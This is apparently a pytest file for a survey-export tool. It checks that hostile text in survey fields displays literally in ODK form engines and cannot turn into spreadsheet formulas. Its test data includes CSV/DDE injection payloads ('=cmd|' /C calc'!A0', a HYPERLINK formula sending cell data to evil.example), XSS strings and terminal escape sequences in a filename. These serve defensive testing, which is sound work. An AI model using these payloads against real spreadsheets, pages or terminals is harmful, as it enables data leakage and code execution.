"""Survey texts are text in the exported XLSForm, never form logic or formatting (issue 19).

A hostile text corpus goes into every text field of a survey file (title, question,
innocuous question, reminder, and the [wording] keys the form shows: intro, respondent id
label, hint and constraint message, answer labels, rules, ...), into a --templates
wording.json, and into answer and group labels. Each survey is added and exported with the
real CLI, converted by pyxform, validated by ODK Validate, and its texts are read back as
JavaRosa (ODK Collect's engine) and ODK Web Forms' engine give them for display
(tests/field_clients.py: ShowText.java, show-text.mjs). Every text must display as written;
texts no form can show are refused by ``survey add`` (or the export, for a wording.json) in
one line naming the key and the position. docs/field-collection.md, "Texts are shown as
written", says what each tool reads in a text and how the form keeps it literal.
"""

from __future__ import annotations

import json
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from field_clients import FillJob, JavaRosa, Text, WebForms, convert_many, fills_of
from migrated import migrated_sqlite
from openpyxl import load_workbook

from surveykit.cli import main
from surveykit.collection.xlsform import JOINER, MAX_CELL
from surveykit.resources import locate_resource

WORDING = json.loads((locate_resource("templates") / "wording.json").read_text("utf-8"))
ID = "7KQ2-M9XD-4FRT-8B"

#: Texts that must display literally wherever a survey puts them.
CORPUS: dict[str, str] = {
    "id reference": "Your id is ${respondent_id}",
    "draw reference": "Your rule comes from ${q1_draw} and ${q1_code}",
    "missing reference": "Broken ${no_such_field}",
    "unclosed reference": "Unclosed ${respondent_id",
    "empty reference": "An empty ${} reference",
    "braces": "Braces { and } and {{x}} and {answer} and {0}",
    "two references": "${a}${b}",
    "nested reference": "${${respondent_id}}",
    "last saved": "${last-saved#respondent_id}",
    "javarosa output": "Outputs ${0} and ${1}",
    "instance": "instance('last-saved')/data/respondent_id and instance('x')/root/item[a=1]/b",
    "jr itext": "jr:itext('/data/q1:label')",
    "concat": "concat(${respondent_id}, 'x') and /data/respondent_id",
    "output element": '<output value="/data/respondent_id"/>',
    "hyperlink formula": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "plus": "+1 555 0100 ok",
    "minus": "-2+3 or - 5",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "=cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
    "html": '<b>bold</b> <i>it</i> <span style="color:red">red</span> <img src=x onerror=alert(1)>',
    "comment": "before <!-- hidden --> after",
    "entities": "&lt;b&gt; &amp; &#96; &#x41; &nbsp; &#35;",
    "collect keys": "&#42;star&#42; &#95;u&#95; &#92; \\#",
    "markdown": "*em* **strong** _u_ __uu__ a_b_c 2*3*4 # not a heading",
    "links": "[link](http://evil.example) ![img](x.png) <http://evil.example> <a@b.example>",
    "link definition": "[ref] here\n\n[ref]: http://evil.example",
    "heading": "# Heading\n## Two ##\nSetext\n=====\nAnother\n-----",
    "lists": "- one\n+ two\n* three\n1. first\n2) second\n10. tenth",
    "quote": "> quoted\n>> nested\n > spaced",
    "code": "`code` and ``two`` and\n```\nfenced\n```\n~~~\ntilde\n~~~",
    "indented": "para\n\n    indented code\n\n\ttabbed code",
    "thematic": "***\n---\n___\n* * *",
    "backslash": "C:\\path\\*not*\\_x_ \\\\ \\# end\\",
    "hard break": "two spaces  \nand a backslash\\\nend",
    "apostrophes": "don`t and can`t, it's \"quoted\" 'single'",
    "percent": "%s %d %(x)s 100% {}",
    "xpath": "/data/respondent_id and ../q1 and . = 1 or true() | //x",
    "rtl marks": "سؤال \u200f(نعم)\u200f ${x} \u061c!",
    "unicode": "zero\u200bwidth, joiner\u2060, bom\ufeff, emoji 👩\u200d👩\u200d👧, e\u0301",
    "tab and lines": "tab\there\nnew line\n\nparagraph",
}

#: Characters no form shows as text: ``survey add`` refuses them.
REFUSED: dict[str, str] = {
    "NUL": "\x00", "BEL": "\x07", "BS": "\x08", "VT": "\x0b", "FF": "\x0c", "CR": "\r",
    "ESC": "\x1b[2J", "DEL": "\x7f", "C1 NEL": "\x85", "C1 CSI": "\x9b",
    "RTL override": "\u202e", "LTR isolate": "\u2066", "U+FFFE": "\ufffe", "U+FFFF": "\uffff",
}

# Every [wording] key that reaches the form with no placeholder of its own.
_WORDING_KEYS = ("intro", "die_instructions", "device_instructions", "respondent_id_label",
                 "respondent_id_hint", "respondent_id_constraint", "group_question_label",
                 "question_label", "innocuous_label", "rule_label", "rule_truthful",
                 "answer_yes", "crosswise_yes", "crosswise_instructions")


def toml_string(text: str) -> str:
    r"""``text`` as a TOML basic string: quotes, backslashes and every character that is
    not printable escaped.

    >>> toml_string('a"\\\x1b\u2060é')
    '"a\\"\\\\\\u001b\\u2060é"'
    """
    escaped = "".join(
        "\\" + c if c in '"\\' else c if c.isprintable() else
        f"\\u{ord(c):04x}" if ord(c) < 0x10000 else f"\\U{ord(c):08x}" for c in text)
    return f'"{escaped}"'


def hostile_survey(name: str, text: str) -> str:
    """A survey with ``text`` in every text field an XLSForm shows: three questions (a
    die-realizable generalized Warner, a crosswise question, an SLD in two groups)."""
    t = toml_string(text)
    wording = "\n".join(f"{key} = {t}" for key in _WORDING_KEYS)
    return f'''name = "{name}"
title = {t}
[wording]
{wording}

[[questions]]
id = "q1"
text = {t}
[questions.mechanism]
p = 0.6
q = 0.2
[questions.wording]
reminder = {t}

[[questions]]
id = "q2"
text = {t}
[questions.design]
model = "crosswise"
p = 0.25
innocuous = {t}

[[questions]]
id = "q3"
text = {t}
[questions.design]
model = "sld"
p = [0.5, 0.75]
'''


def literal(written: str) -> str:
    """What a cell the form wrote reads as: its joiners, backslash escapes and ``&#96;``
    undone (the inverse of surveykit.collection.xlsform.form_text)."""
    text = written.replace("&#96;", "`").replace(JOINER, "")
    return re.sub(r"\\([\\*_#])", r"\1", text)


def as_read(text: str) -> str:
    """``text`` as a reader sees it on a page: a run of spaces and tabs is one space (HTML
    collapses them), no space at either end of a line, at most one empty line between
    paragraphs, and no zero-width joiner (invisible)."""
    text = re.sub(r"[ \t]+", " ", text.replace(JOINER, ""))
    text = re.sub(r" ?\n ?", "\n", text)
    return re.sub(r"\n{3,}", "\n\n", text).strip()


def run(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="session")
def corpus_xlsforms(tmp_path_factory) -> dict[tuple[str, str], Path]:
    """Every corpus case as a survey file, added and exported in both modes with the CLI:
    (case, mode) -> XLSForm."""
    folder = tmp_path_factory.mktemp("corpus")
    db = migrated_sqlite(folder / "hostile.db")
    xlsforms: dict[tuple[str, str], Path] = {}
    for number, (case, text) in enumerate(CORPUS.items()):
        name = f"hostile_{number}"
        source = folder / f"{name}.toml"
        source.write_text(hostile_survey(name, text), encoding="utf-8")
        added = run("survey", "add", str(source), "--db", db)
        assert added.exit_code == 0, (case, added.output)
        for mode in ("self", "device"):
            out = folder / f"{name}-{mode}.xlsx"
            exported = run("export", "xlsform", "--survey", name, "--out", str(out), "--db", db,
                           "--randomize", mode, "--acknowledge-risk")
            assert exported.exit_code == 0, (case, mode, exported.output)
            xlsforms[case, mode] = out
    return xlsforms


@pytest.fixture(scope="session")
def converted(corpus_xlsforms, probe_xlsforms, template_xlsforms) -> dict[Path, list[str]]:
    """Every XLSForm of this file converted by pyxform (XForm beside it, .xml) and passed by
    ODK Validate, all in one run (one JVM, not one each): XLSForm -> pyxform's warnings."""
    xlsforms = [*corpus_xlsforms.values(), *probe_xlsforms.values(),
                *template_xlsforms.values()]
    return convert_many({x: x.with_suffix(".xml") for x in xlsforms})


@pytest.fixture(scope="session")
def corpus_forms(corpus_xlsforms, converted) -> dict[tuple[str, str], Path]:
    """Every corpus case's form, converted by pyxform without a warning and passed by ODK
    Validate: (case, mode) -> XForm."""
    warnings = {key: converted[xlsform] for key, xlsform in corpus_xlsforms.items()}
    assert not [w for w in warnings.values() if w], warnings
    return {key: xlsform.with_suffix(".xml") for key, xlsform in corpus_xlsforms.items()}


@pytest.fixture(scope="session")
def shown(converted) -> dict[str, dict[str, tuple[Text, ...]]]:
    """Engine name -> XForm path -> every text of the form, for every form of this file,
    each engine run once."""
    forms = [xlsform.with_suffix(".xml") for xlsform in converted]
    return {"javarosa": JavaRosa.shared().show(forms), "webforms": WebForms().show(forms)}


def by_field(texts: tuple[Text, ...]) -> dict[tuple[str, str], list[str]]:
    """(field name, role) -> the texts an engine gave, in form order."""
    found: dict[tuple[str, str], list[str]] = {}
    for text in texts:
        found.setdefault((text.name, text.role), []).append(text.text)
    return found


def check_shown_as_written(javarosa: tuple[Text, ...], webforms: tuple[Text, ...]
                           ) -> dict[tuple[str, str], list[str]]:
    """Both engines show every text of a form as written; returns what they read as."""
    jr, wf = by_field(javarosa), by_field(webforms)
    # JavaRosa fills in nothing and fails on nothing: it hands Collect what Web Forms gets
    errors = {key: texts for key, texts in jr.items() if any(t.startswith("!ERROR") for t in texts)}
    assert not errors
    assert {k: v for k, v in jr.items() if k[1] != "title"} == {
        k: v for k, v in wf.items() if not k[1].endswith(".shown")}
    # Web Forms formats nothing (no emphasis, link, list, heading, code or HTML, no text
    # left out): every text displays as the text the form holds
    for (name, role), texts in wf.items():
        if role.endswith(".shown"):
            plain = wf[name, role.removesuffix(".shown")]
            assert [as_read(t) for t in texts] == [as_read(literal(t)) for t in plain], (
                name, role)
    # a title is shown as plain text, so the form only joins its "${" (form_title)
    return {key: [t.replace(JOINER, "") if key[1] == "title" else literal(t) for t in texts]
            for key, texts in jr.items()}


@pytest.mark.parametrize("mode", ["self", "device"])
@pytest.mark.parametrize("case", list(CORPUS))
def test_hostile_text_displays_literally_in_every_field(case, mode, corpus_forms, shown):
    """The case in every text field of a survey (hostile_survey): both engines show every
    text as written, and the survey's text where the survey put it."""
    # a joiner the text holds itself reads away like the form's own (both are invisible)
    text = CORPUS[case].replace(JOINER, "")
    xform = str(corpus_forms[case, mode])
    read = check_shown_as_written(shown["javarosa"][xform], shown["webforms"][xform])
    # ... and what displays is the survey's text, where the survey put it
    assert read["", "title"] == [text.strip()]
    assert read["intro", "label"] == [f"{text}\n\n{text}"]  # intro, how to randomize
    assert read["respondent_id", "label"] == [text]
    assert read["respondent_id", "hint"] == [text]
    assert read["respondent_id", "constraint"] == [text]
    assert read["group", "label"] == [text]
    assert read["q1", "label"] == [f"{text} 1. {text}"]
    assert read["q1", "hint"] == [text]
    assert read["q1", "choice"][0] == text
    assert read["q2", "label"] == [f"{text} 2. {text}\n\n{text}: {text}\n\n{text}"]
    assert read["q2", "choice"][0] == text
    if mode == "self":
        assert f"\nRoll 1–6: {text}\n" in read["q1_die", "label"][0]
    else:
        rules = [t for (name, _), texts in read.items() if name.startswith("q1_rule_")
                 for t in texts]
        assert f"{text} 1. {text}: {text}" in rules


# --- the Why of issue 19, one regression test each ---------------------------------------

def _export(tmp_path: Path, survey: str, *args: str) -> Path:
    """``survey`` (TOML text) added to a new database and exported with the CLI."""
    db = migrated_sqlite(tmp_path / "survey.db")
    (tmp_path / "survey.toml").write_text(survey, encoding="utf-8")
    added = run("survey", "add", str(tmp_path / "survey.toml"), "--db", db)
    assert added.exit_code == 0, added.output
    name = re.search(r'name = "([^"]+)"', survey)[1]
    out = tmp_path / "form.xlsx"
    exported = run("export", "xlsform", "--survey", name, "--out", str(out), "--db", db, *args)
    assert exported.exit_code == 0, exported.output
    return out


def one_question(text: str, name: str = "probe") -> str:
    return f'''name = "{name}"
title = "Probe"
[mechanism]
p = 0.6
q = 0.2
[[questions]]
id = "q1"
text = {toml_string(text)}
'''


@pytest.fixture(scope="session")
def clients():
    return lambda name: JavaRosa.shared() if name == "javarosa" else WebForms()


ACCEPTED = ("${no_such_field}", "Unclosed ${respondent_id", "${}", "${0}", "instance('x')/y")
DEVICE = ("--randomize", "device", "--acknowledge-risk")
LONG_TEXT = ("*Long* ${respondent_id} <b>text</b>\n- line\n" * 600).strip()  # 25,000 characters
CURLY = "Don’t say “never”, ‘ok’?"
LABELS = ("${respondent_id}", "*a*", "<b>b</b>", "=1+1", "- item", "1. one", "&amp;",
          "`c` `d`", "[e](f)", "# h", "\\_g_")
LABELS_SURVEY = f'''name = "labels"
title = "Labels"
[[questions]]
id = "q1"
text = "How often?"
[questions.design]
model = "krr"
p = 0.7
categories = [{", ".join(toml_string(label) for label in LABELS)}]
[[questions]]
id = "q2"
text = "Ever?"
[questions.design]
model = "sld"
p = [0.5, 0.75]
groups = [{toml_string("${q1_draw}")}, {toml_string("<i>two</i>")}]
'''

#: The single-form probes of the tests below: key -> (survey file, export options).
PROBES: dict[str, tuple[str, tuple[str, ...]]] = {
    "respondent id": (one_question("Your id is ${respondent_id}"), ()),
    "device draw": (one_question("Draw ${q1_draw}, rule ${q1_code}"), DEVICE),
    **{f"accepted {text}": (one_question(text), ()) for text in ACCEPTED},
    "long": (one_question(LONG_TEXT), ()),
    "labels": (LABELS_SURVEY, DEVICE),
    "curly": (one_question(CURLY), ()),
}


@dataclass(frozen=True)
class Probe:
    """A probe survey added and exported with the CLI, converted by pyxform (its warnings)
    and passed by ODK Validate."""

    xlsform: Path
    xform: Path
    warnings: list[str]


@pytest.fixture(scope="session")
def probe_xlsforms(tmp_path_factory) -> dict[str, Path]:
    """Every probe of PROBES, each in its own database, exported once for the tests that
    read it: key -> XLSForm."""
    folder = tmp_path_factory.mktemp("probes")
    xlsforms = {}
    for number, (key, (survey, options)) in enumerate(PROBES.items()):
        (folder / str(number)).mkdir()
        xlsforms[key] = _export(folder / str(number), survey, *options)
    return xlsforms


@pytest.fixture(scope="session")
def probes(probe_xlsforms, converted) -> dict[str, Probe]:
    """Every probe with its XForm and pyxform's warnings (ODK Validate passed it)."""
    return {key: Probe(xlsform=x, xform=x.with_suffix(".xml"), warnings=converted[x])
            for key, x in probe_xlsforms.items()}


@pytest.fixture(scope="session")
def probes_shown(probes, shown) -> dict[str, dict[str, tuple[Text, ...]]]:
    """Engine name -> probe key -> every text of its form."""
    return {engine: {key: texts[str(probe.xform)] for key, probe in probes.items()}
            for engine, texts in shown.items()}


#: The probes filled as a respondent does, with their answers.
FILLED = {"respondent id": {"respondent_id": ID, "q1": "yes"},
          "device draw": {"respondent_id": ID, "q1": "no"}}


@pytest.fixture(scope="session")
def probe_fills(probes, clients, tmp_path_factory):
    """client name -> FILLED key -> its fill or the HarnessError that stopped it: the fills
    of a client in one run of its harness, made when a test first asks for that client."""
    runs = {}

    def of(client_name: str):
        if client_name not in runs:
            folder = tmp_path_factory.mktemp(f"probe-fills-{client_name}")
            jobs = [FillJob(xform=probes[key].xform, out=folder / str(number), answers=answers)
                    for number, (key, answers) in enumerate(FILLED.items())]
            runs[client_name] = dict(zip(FILLED, clients(client_name).fill_many(jobs),
                                         strict=True))
        return runs[client_name]
    return of


@pytest.mark.parametrize("client_name", ["javarosa", "webforms"])
def test_a_question_never_shows_the_respondent_id(client_name, probes, probe_fills):
    """Why: ``Your id is ${respondent_id}`` displayed the id the respondent typed."""
    assert not probes["respondent id"].warnings
    [fill] = fills_of(probe_fills(client_name)["respondent id"])
    label, _ = fill.asked("fill")["q1"]
    assert ID not in label
    assert literal(label) == "Question 1. Your id is ${respondent_id}"


@pytest.mark.parametrize("client_name", ["javarosa", "webforms"])
def test_a_device_form_question_never_shows_the_draw(client_name, probes, probe_fills):
    """Why: in device mode ``${q1_draw}`` displayed the draw that selects the rule."""
    text = "Draw ${q1_draw}, rule ${q1_code}"
    assert not probes["device draw"].warnings
    [fill] = fills_of(probe_fills(client_name)["device draw"])
    label, _ = fill.asked("fill")["q1"]
    assert "0." not in label
    assert literal(label) == f"Question 1. {text}"


@pytest.mark.parametrize("text", ACCEPTED)
def test_a_survey_that_was_added_exports_a_form_pyxform_and_odk_validate_accept(
        text, probes, probes_shown):
    """Why: ``${no_such_field}`` or an unclosed ``${`` made a form pyxform refused (and
    ``${}``, which pyxform passes, made JavaRosa fail on the label), although survey add
    promises that an added survey works with every command."""
    assert not probes[f"accepted {text}"].warnings
    texts = probes_shown["javarosa"][f"accepted {text}"]
    assert [literal(t.text) for t in texts if t.name == "q1" and t.role == "label"] == [
        f"Question 1. {text}"]


def _templates(tmp_path: Path, **texts: str) -> Path:
    """A --templates folder whose wording.json is surveykit's with ``texts`` replaced."""
    folder = tmp_path / "templates"
    folder.mkdir(parents=True)
    (folder / "wording.json").write_text(json.dumps({**WORDING, **texts}, indent=2),
                                         encoding="utf-8")
    return folder


@pytest.mark.parametrize("case", ["ESC", "BEL", "NUL", "CR", "RTL override", "U+FFFE"])
def test_a_control_character_in_templates_wording_is_one_line_naming_file_line_key(
        case, tmp_path):
    """Why: a control character in --templates wording crashed the export with openpyxl's
    IllegalCharacterError in a 3-line message."""
    folder = _templates(tmp_path, respondent_id_hint="Type it" + REFUSED[case] + " here")
    db = migrated_sqlite(tmp_path / "survey.db")
    (tmp_path / "s.toml").write_text(one_question("Ever?"), encoding="utf-8")
    assert run("survey", "add", str(tmp_path / "s.toml"), "--db", db).exit_code == 0
    out = tmp_path / "form.xlsx"
    result = run("export", "xlsform", "--survey", "probe", "--out", str(out), "--db", db,
                 "--templates", str(folder))
    assert result.exit_code == 2
    line = list(WORDING).index("respondent_id_hint") + 2  # "{" is line 1
    assert re.fullmatch(
        rf"Error: {re.escape(str(folder / 'wording.json'))}, line {line}: respondent_id_hint: "
        r"holds (the control character \S+|U\+FFFE) at position 8[,;] .*remove it\n",
        result.output), result.output
    assert not out.exists()


def test_templates_wording_with_a_placeholder_it_does_not_allow_is_one_line(tmp_path):
    folder = _templates(tmp_path, rule_say='Answer "{answr}".')
    db = migrated_sqlite(tmp_path / "survey.db")
    (tmp_path / "s.toml").write_text(one_question("Ever?"), encoding="utf-8")
    run("survey", "add", str(tmp_path / "s.toml"), "--db", db)
    result = run("export", "xlsform", "--survey", "probe", "--out", str(tmp_path / "f.xlsx"),
                 "--db", db, "--templates", str(folder))
    line = list(WORDING).index("rule_say") + 2
    assert result.exit_code == 2
    assert result.output == (
        f"Error: {folder / 'wording.json'}, line {line}: rule_say ('Answer \"{{answr}}\".') "
        "uses the placeholder {answr}; it allows {answer} (write {{ and }} for literal "
        "braces)\n")


TEMPLATE_CASES = ("id reference", "missing reference", "empty reference", "markdown", "script",
                  "hyperlink formula", "lists", "code", "indented")


@pytest.fixture(scope="session")
def template_xlsforms(tmp_path_factory) -> dict[str, Path]:
    """Each TEMPLATE_CASES text in a --templates wording.json, exported with the CLI:
    case -> XLSForm."""
    folder = tmp_path_factory.mktemp("templates")
    db = migrated_sqlite(folder / "survey.db")
    (folder / "s.toml").write_text(one_question("Ever?"), encoding="utf-8")
    assert run("survey", "add", str(folder / "s.toml"), "--db", db).exit_code == 0
    forms = {}
    for number, case in enumerate(TEMPLATE_CASES):
        templates = _templates(folder / case, **dict.fromkeys(
            ("intro", "respondent_id_hint", "respondent_id_constraint", "answer_yes",
             "rule_truthful"), CORPUS[case]))
        out = folder / f"form-{number}.xlsx"
        result = run("export", "xlsform", "--survey", "probe", "--out", str(out), "--db", db,
                     "--templates", str(templates))
        assert result.exit_code == 0, (case, result.output)
        forms[case] = out
    return forms


def test_templates_wording_displays_literally(template_xlsforms, converted, shown):
    """The hostile corpus in a --templates wording.json: shown as written, like the survey
    file's own [wording]."""
    assert not any(converted[x] for x in template_xlsforms.values())
    xforms = [str(x.with_suffix(".xml")) for x in template_xlsforms.values()]
    for case, xform in zip(TEMPLATE_CASES, xforms, strict=True):
        text = CORPUS[case]
        read = check_shown_as_written(shown["javarosa"][xform], shown["webforms"][xform])
        assert read["respondent_id", "hint"] == [text], case
        assert read["respondent_id", "constraint"] == [text], case
        assert read["q1", "choice"][0] == text, case
        assert read["intro", "label"][0].startswith(f"{text}\n\n"), case
        assert f"\nRoll 1–6: {text}\n" in read["q1_die", "label"][0], case


def test_the_out_path_is_printed_with_control_characters_escaped(tmp_path):
    """Why: the --out name was printed with raw control characters (a terminal escape)."""
    db = migrated_sqlite(tmp_path / "survey.db")
    (tmp_path / "s.toml").write_text(one_question("Ever?"), encoding="utf-8")
    run("survey", "add", str(tmp_path / "s.toml"), "--db", db)
    out = tmp_path / "form\x1b]0;PWNED\x07\x1b[2J.xlsx"
    result = run("export", "xlsform", "--survey", "probe", "--out", str(out), "--db", db)
    assert result.exit_code == 0, result.output
    assert out.exists()
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert result.output.startswith(
        f"wrote {tmp_path}/form\\x1b]0;PWNED\\x07\\x1b[2J.xlsx: XLSForm 'probe'")


# --- what survey add refuses -----------------------------------------------------------

def _refused_survey(field: str, text: str) -> str:
    """A survey with ``text`` in ``field`` and harmless texts elsewhere."""
    t = toml_string(text)
    texts = {"title": '"Probe"', "text": '"Ever?"', "innocuous": '"Born in March?"',
             "reminder": '"Follow your rule."', "intro": '"Welcome."'}
    texts[field] = t
    return f'''name = "probe"
title = {texts["title"]}
[wording]
intro = {texts["intro"]}
[[questions]]
id = "q1"
text = {texts["text"]}
[questions.wording]
reminder = {texts["reminder"]}
[questions.design]
model = "crosswise"
p = 0.25
innocuous = {texts["innocuous"]}
'''


_WHERE = {"title": "title", "text": "questions[0].text",
          "innocuous": "questions[0].design.innocuous",
          "reminder": "questions[0].wording.reminder", "intro": "wording.intro"}


@pytest.mark.parametrize("field", list(_WHERE))
@pytest.mark.parametrize("case", list(REFUSED))
def test_survey_add_refuses_a_character_no_form_can_show_in_one_line(case, field, tmp_path):
    db = migrated_sqlite(tmp_path / "survey.db")
    source = tmp_path / "s.toml"
    source.write_text(_refused_survey(field, "Say" + REFUSED[case] + "it"), encoding="utf-8")
    result = run("survey", "add", str(source), "--db", db)
    assert result.exit_code == 1
    assert result.output.count("\n") == 1
    assert result.output.startswith(f"Error: {source}: {_WHERE[field]}: holds "), result.output
    assert " at position 4" in result.output and result.output.endswith("remove it\n")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
                         result.output)
    assert "probe" not in run("survey", "list", "--db", db).output


def test_labels_refuse_line_breaks_and_characters_no_form_can_show(tmp_path):
    db = migrated_sqlite(tmp_path / "survey.db")
    for label in ("two\nlines", "tab\there", "bad\ufffe"):
        source = tmp_path / "s.toml"
        source.write_text(f'''name = "probe"
title = "Probe"
[[questions]]
id = "q1"
text = "How often?"
[questions.design]
model = "krr"
p = 0.7
categories = [{toml_string(label)}, "often"]
''', encoding="utf-8")
        result = run("survey", "add", str(source), "--db", db)
        assert result.exit_code == 1 and result.output.count("\n") == 1, result.output
        assert "questions[0].design.categories: the label " in result.output


def test_a_text_too_long_for_a_spreadsheet_cell_is_refused_at_survey_add(tmp_path):
    """A cell holds at most MAX_CELL characters: a question whose die table would need more
    is refused in one line naming the question and the cell."""
    db = migrated_sqlite(tmp_path / "survey.db")
    source = tmp_path / "s.toml"
    source.write_text(one_question("x" * 40_000), encoding="utf-8")
    result = run("survey", "add", str(source), "--db", db)
    assert result.exit_code == 1
    assert result.output.startswith(
        f"Error: {source}: questions[0] (q1): the XLSForm's label of the field 'q1_die' would "
        f"have 40,151 characters, more than the {MAX_CELL:,} a spreadsheet cell holds")
    assert result.output.count("\n") == 1
    title = tmp_path / "t.toml"
    for length, refused in ((MAX_CELL, False), (MAX_CELL + 1, True)):
        title.write_text(one_question("Ever?", name=f"t{length}").replace(
            'title = "Probe"', f'title = "{"T" * length}"'), encoding="utf-8")
        result = run("survey", "add", str(title), "--db", db)
        assert (result.exit_code == 1) is refused, result.output
        if refused:
            assert result.output == (
                f"Error: {title}: title: the XLSForm's form_title would have {length:,} "
                f"characters, more than the {MAX_CELL:,} a spreadsheet cell holds (a "
                "spreadsheet cuts it or refuses the workbook); shorten the texts it is made "
                "of; found when building the XLSForm (export xlsform)\n")


def test_a_very_long_text_that_fits_a_cell_is_exported_and_shown_whole(probes, probes_shown):
    assert not probes["long"].warnings
    read = check_shown_as_written(probes_shown["javarosa"]["long"],
                                  probes_shown["webforms"]["long"])
    assert read["q1", "label"] == [f"Question 1. {LONG_TEXT}"]


# --- answer and group labels -------------------------------------------------------------

def test_hostile_answer_and_group_labels_display_literally(probes, probes_shown):
    probe = probes["labels"]
    assert not probe.warnings
    read = check_shown_as_written(probes_shown["javarosa"]["labels"],
                                  probes_shown["webforms"]["labels"])
    assert tuple(read["q1", "choice"]) == LABELS
    assert read["group", "choice"] == ["${q1_draw}", "<i>two</i>"]
    # the answers the submission holds are the labels, as written
    names = [row[1] for row in load_workbook(probe.xlsform)["choices"].iter_rows(
        values_only=True) if row[0] == "answers"]
    assert tuple(names) == LABELS


# --- the workbook as a spreadsheet ---------------------------------------------------------

def test_every_cell_is_text_marked_as_text_so_no_spreadsheet_reads_a_formula(tmp_path):
    """OWASP's CSV injection: a cell starting with =, +, -, @ is a formula once somebody edits
    it in Excel or LibreOffice; a text cell with a quote prefix and format @ stays text."""
    out = _export(tmp_path, one_question('=HYPERLINK("http://evil.example","x")')
                  .replace('title = "Probe"', 'title = "@SUM(1+1)"'))
    workbook = load_workbook(out)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert {(cell.data_type, cell.quotePrefix, cell.number_format) for cell in cells} == {
        ("s", True, "@")}
    values = [cell.value for cell in cells]
    assert "@SUM(1+1)" in values
    assert any(str(v).startswith('Question 1. =HYPERLINK("http://evil.example"') for v in values)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
        styles = archive.read("xl/styles.xml").decode()
    assert not [sheet for sheet in sheets if "<f>" in sheet or "<f " in sheet]
    assert 'quotePrefix="1"' in styles and 'numFmtId="49"' in styles


def test_pyxform_straightens_curly_quotes_the_one_change_a_text_undergoes(probes,
                                                                           probes_shown):
    """pyxform replaces ‘ ’ “ ” with ' and " in every cell and has no setting against it
    (parsing/sheet_headers.clean_text_values): docs/field-collection.md says so. If this
    test fails, pyxform stopped doing it: remove the sentence from the docs."""
    assert not probes["curly"].warnings
    [label] = [t.text for t in probes_shown["javarosa"]["curly"]
               if (t.name, t.role) == ("q1", "label")]
    assert label == "Question 1. Don't say \"never\", 'ok'?"


def test_form_text_of_a_text_without_syntax_is_the_text():
    """Texts without anything the tools read are written unchanged (the field tests compare
    plain texts as they are)."""
    from surveykit.collection.xlsform import form_text

    plain = ("Have you ever copied answers from another student during an exam?",
             "Roll 1–6: Answer \"don't know\", whatever the truth is.", "« A & B » 50% (2/3)",
             "Question 3 (d6 + d6): x", "café, naïve, 日本語, سؤال", "e.g. 7KQ2-M9XD-4FRT-8BT")
    assert [form_text(t) for t in plain] == list(plain)
